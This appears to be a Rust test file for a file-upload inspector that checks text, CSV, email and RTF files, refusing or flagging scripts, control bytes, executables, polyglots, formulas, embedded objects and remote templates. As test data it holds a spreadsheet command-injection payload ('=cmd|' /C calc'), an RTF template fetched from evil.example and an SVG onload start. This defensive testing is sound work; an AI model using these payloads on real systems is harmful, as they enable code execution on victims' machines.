//! Text of every kind.

use cpor::app::inspect::FileKind::{Csv, Eml, Rtf, Txt};
use cpor::domain::file::{FileFlag, FileRefusal};

use super::make::{joined, zip};
use super::{refused, taken};

fn utf16(text: &str) -> Vec<u8> {
    [0xFF, 0xFE].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
}

#[test]
fn text_is_taken_in_every_encoding_that_people_have() {
    taken("minutes.txt", "Zażółć gęślą jaźń\r\n\tend", Txt, &[]);
    taken("minutes.txt", b"Z\xE1pis z jedn\xE1n\xED".as_slice(), Txt, &[]);
    taken("minutes.txt", utf16("Zażółć"), Txt, &[]);
    taken("minutes.txt", "BM and MZ met.", Txt, &[]);
    taken("hours.csv", "\u{FEFF}day;hours\n1;-8\n", Csv, &[]);
    // The content cannot tell a list from a text: the name does.
    refused("minutes.pdf", "Minutes", FileRefusal::ExtensionMismatch);
    refused("minutes", "Minutes", FileRefusal::ExtensionMismatch);
    refused(".txt", "", FileRefusal::Empty);
}

#[test]
fn bytes_that_are_no_characters_are_no_text() {
    for bytes in [b"hello\0world".as_slice(), b"bell\x07", b"esc\x1B[0m", &[0xFF, 0xFE, 0, 0], &[1, 2, 3]] {
        refused("minutes.txt", bytes, FileRefusal::TypeNotAllowed);
    }
    refused("minutes.txt", &utf16("odd")[..7], FileRefusal::Broken);
}

#[test]
fn text_that_would_run_is_none() {
    for start in
        ["<!DOCTYPE html>", "<html>", "  <script>", "<?xml version=\"1.0\"?><svg/>", "<svg onload=x>", "#!/bin/sh\n", "@echo off"]
    {
        refused("minutes.txt", start, FileRefusal::TypeNotAllowed);
    }
    refused("minutes.txt", utf16("x").into_iter().chain(zip(&[("a", b"b")])).collect::<Vec<_>>(), FileRefusal::TypeNotAllowed);
}

#[test]
fn cells_that_would_become_formulas_are_flagged() {
    for cells in ["a;b\n=cmd|' /C calc'!A0;1", "\"=1+1\",2", "x\t@SUM(A1)", "\u{FEFF}=1"] {
        taken("hours.csv", cells, Csv, &[FileFlag::Formulas]);
    }
    taken("hours.csv", utf16("=1"), Csv, &[FileFlag::Formulas]);
    taken("hours.csv", "a=b;c@d.example", Csv, &[]);
    taken("minutes.txt", "=1", Txt, &[]);
}

#[test]
fn a_message_begins_with_fields() {
    let message =
        "Received: from mx.example\r\n\tby other.example\r\nFrom: tom@tailspin.example\r\nSubject: Yes\r\n\r\nWe agree.\r\n";
    taken("yes.eml", message, Eml, &[]);
    taken("yes.txt", message, Txt, &[]);
    refused("yes.eml", "We agree.", FileRefusal::ExtensionMismatch);
    let attached = format!("{message}--b\r\nContent-Disposition: attachment; filename=\"x.exe\"\r\n");
    taken("yes.eml", attached, Eml, &[FileFlag::EmbeddedFiles]);
}

#[test]
fn rich_text_with_objects_or_templates_is_flagged() {
    taken("plan.rtf", r"{\rtf1\ansi Hello \{ and \} {\b bold}}", Rtf, &[]);
    taken("plan.rtf", r"{\rtf1{\object\objemb{\*\objdata 0105}}}", Rtf, &[FileFlag::EmbeddedFiles]);
    taken("plan.rtf", r"{\rtf1{\*\template http://evil.example/t.dotm}}", Rtf, &[FileFlag::ExternalContent]);
    taken("plan.rtf", r"{\rtf1 cut off", Rtf, &[FileFlag::Incomplete]);
    taken("plan.rtf", r"{\rtf1 done} and more", Rtf, &[FileFlag::TrailingData]);
    refused("plan.rtf", joined(&[br"{\rtf1 done}", &zip(&[("a", b"b")])]), FileRefusal::Polyglot);
}

#[test]
fn programs_and_nothing_at_all_are_refused() {
    refused("sow.pdf", b"MZ\x90\0\x03\0\0\0".as_slice(), FileRefusal::TypeNotAllowed);
    refused("sow.doc", b"\x7FELF\x02\x01\x01\0".as_slice(), FileRefusal::TypeNotAllowed);
    refused("sow.pdf", "", FileRefusal::Empty);
}
